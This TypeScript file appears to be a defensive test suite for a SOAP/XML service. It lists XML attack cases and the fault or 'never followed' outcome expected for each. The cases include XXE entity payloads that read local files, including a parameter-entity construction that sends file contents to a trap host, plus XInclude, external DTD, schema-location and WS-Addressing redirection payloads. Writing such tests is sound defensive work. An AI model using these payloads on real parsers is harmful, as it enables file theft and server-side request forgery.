import { type Attack, DOCTYPE, MARK, NOT_WELL_FORMED, type Outcome } from './attack.js';
import { onBoth } from './documents.js';

const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const WSA = 'http://www.w3.org/2005/08/addressing';
const XSI = 'http://www.w3.org/2001/XMLSchema-instance';
const NOT_UNDERSTOOD: Outcome = { fault: 'MustUnderstand', rule: 'UWLR-SOAP-002' };
const SCHEMA: Outcome = { fault: 'Client.OngeldigBericht', rule: 'UWLR-SCH' };

const never = (what: string): Outcome => ({ harmless: `${what} is never followed` });

/** Documents that want something fetched, read or called. */
export const EXTERNAL: readonly Attack[] = [
  ...onBoth(
    'XXE: an entity that is a file',
    ({ canary }) => ({ prolog: `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${canary}">]>`, klantnaam: '&e;' }),
    DOCTYPE,
  ),
  ...onBoth(
    'XXE: an entity over HTTP',
    ({ trap }) => ({ prolog: `<!DOCTYPE x [<!ENTITY e SYSTEM "${trap}/e">]>`, klantnaam: '&e;' }),
    DOCTYPE,
  ),
  ...onBoth(
    'XXE: a public entity',
    ({ trap }) => ({ prolog: `<!DOCTYPE x [<!ENTITY e PUBLIC "-//${MARK}" "${trap}/p">]>`, klantnaam: '&e;' }),
    DOCTYPE,
  ),
  ...onBoth(
    'XXE: a parameter entity over HTTP',
    ({ trap }) => ({ prolog: `<!DOCTYPE x [<!ENTITY % p SYSTEM "${trap}/${MARK}.dtd"> %p;]>` }),
    DOCTYPE,
  ),
  ...onBoth(
    'XXE: a parameter entity that carries a file out',
    ({ trap, canary }) => ({
      prolog: `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://${canary}"><!ENTITY % o "<!ENTITY &#37; s SYSTEM '${trap}/?%f;'>">%o;%s;]>`,
    }),
    DOCTYPE,
  ),
  ...onBoth('an external DTD', ({ trap }) => ({ prolog: `<!DOCTYPE x SYSTEM "${trap}/${MARK}.dtd">` }), DOCTYPE),
  ...onBoth('a DTD with defaults for attributes', () => ({ prolog: `<!DOCTYPE x [<!ATTLIST x y CDATA "${MARK}">]>` }), DOCTYPE),
  ...onBoth('a DTD with a notation', ({ trap }) => ({ prolog: `<!DOCTYPE x [<!NOTATION n SYSTEM "${trap}/n">]>` }), DOCTYPE),
  ...onBoth('a bare document type', () => ({ prolog: '<!DOCTYPE x>' }), DOCTYPE),
  ...onBoth('a document type behind a comment', () => ({ prolog: `<!-- ${MARK} --><!DOCTYPE x>` }), DOCTYPE),
  ...onBoth('a document type in small letters', () => ({ prolog: `<!doctype ${MARK}>` }), NOT_WELL_FORMED),
  ...onBoth('a document type within the message', () => ({ inside: `<!DOCTYPE ${MARK}>` }), NOT_WELL_FORMED),
  ...onBoth('a document type behind the envelope', () => ({ after: `<!DOCTYPE ${MARK}>` }), NOT_WELL_FORMED),
  ...onBoth('an entity that nobody declared', () => ({ klantnaam: `&${MARK};` }), NOT_WELL_FORMED),
  ...onBoth('an entity in an attribute that nobody declared', () => ({ envelope: `a="&${MARK};"` }), NOT_WELL_FORMED),
  ...onBoth(
    'XInclude of a file, in the message',
    ({ canary }) => ({ inside: `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${canary}"/>` }),
    SCHEMA,
  ),
  ...onBoth(
    'XInclude over HTTP, in the header',
    ({ trap }) => ({ header: `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${trap}/${MARK}"/>` }),
    never('a header block that nobody knows'),
  ),
  ...onBoth(
    'a schema location elsewhere',
    ({ trap }) => ({ attributes: `xmlns:xsi="${XSI}" xsi:schemaLocation="urn:${MARK} ${trap}/a.xsd"` }),
    never('a schema location'),
  ),
  ...onBoth(
    'a schema location without namespace',
    ({ trap }) => ({ envelope: `xmlns:xsi="${XSI}" xsi:noNamespaceSchemaLocation="${trap}/${MARK}.xsd"` }),
    never('a schema location'),
  ),
  ...onBoth('an xml:base elsewhere', ({ trap }) => ({ envelope: `xml:base="${trap}/${MARK}/"` }), never('xml:base')),
  ...onBoth('a stylesheet', ({ trap }) => ({ prolog: `<?xml-stylesheet type="text/xsl" href="${trap}/${MARK}"?>` }), never('a stylesheet')),
  ...onBoth('a catalogue', ({ trap }) => ({ prolog: `<?oasis-xml-catalog catalog="${trap}/${MARK}"?>` }), never('a catalogue')),
  ...onBoth('a namespace that is an address', ({ trap }) => ({ envelope: `xmlns:n="${trap}/${MARK}"` }), never('a namespace')),
  ...onBoth(
    'wsa:ReplyTo and wsa:FaultTo elsewhere',
    ({ trap }) => ({
      header: `<w:ReplyTo xmlns:w="${WSA}"><w:Address>${trap}/${MARK}</w:Address></w:ReplyTo><w:FaultTo xmlns:w="${WSA}"><w:Address>${trap}</w:Address></w:FaultTo>`,
    }),
    never('an address of WS-Addressing'),
  ),
  ...onBoth(
    'wsa:ReplyTo that must be understood',
    ({ trap }) => ({ header: `<w:ReplyTo xmlns:w="${WSA}" soap:mustUnderstand="1"><w:Address>${trap}</w:Address></w:ReplyTo>` }),
    NOT_UNDERSTOOD,
  ),
  ...onBoth(
    'wsa:FaultTo with a message that is refused',
    ({ trap }) => ({ header: `<w:FaultTo xmlns:w="${WSA}"><w:Address>${trap}/${MARK}</w:Address></w:FaultTo>`, inside: `<${MARK}/>` }),
    SCHEMA,
  ),
  ...onBoth(
    'a header block for the next actor that must be understood',
    () => ({ header: `<x xmlns="urn:${MARK}" soap:mustUnderstand="true" soap:actor="http://schemas.xmlsoap.org/soap/actor/next"/>` }),
    NOT_UNDERSTOOD,
  ),
  ...onBoth(
    'an encoding style elsewhere',
    ({ trap }) => ({ envelope: `soap:encodingStyle="${trap}/${MARK}"` }),
    never('an encoding style'),
  ),
  ...onBoth(
    'a signature with a reference elsewhere',
    ({ trap }) => ({
      header: `<s:Signature xmlns:s="http://www.w3.org/2000/09/xmldsig#"><s:Reference URI="${trap}/${MARK}"/></s:Signature>`,
    }),
    never('a reference in a header block that nobody knows'),
  ),
  ...onBoth(
    'an xop:Include of a file',
    ({ canary }) => ({ klantnaam: `<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="file://${canary}"/>` }),
    { fault: 'Client.AutorisatieOngeldig', rule: 'UWLR-SCH' },
  ),
  ...onBoth(
    'a prefix that stands for SOAP 1.1 and for SOAP 1.2',
    () => ({ envelope: 'xmlns:soap="http://www.w3.org/2003/05/soap-envelope"' }),
    NOT_WELL_FORMED,
  ),
  ...onBoth(
    'an element in the envelope before the header',
    () => ({ envelope: `><soap:Header/><${MARK} xmlns="${SOAP}"/><x` }),
    NOT_WELL_FORMED,
  ),
];
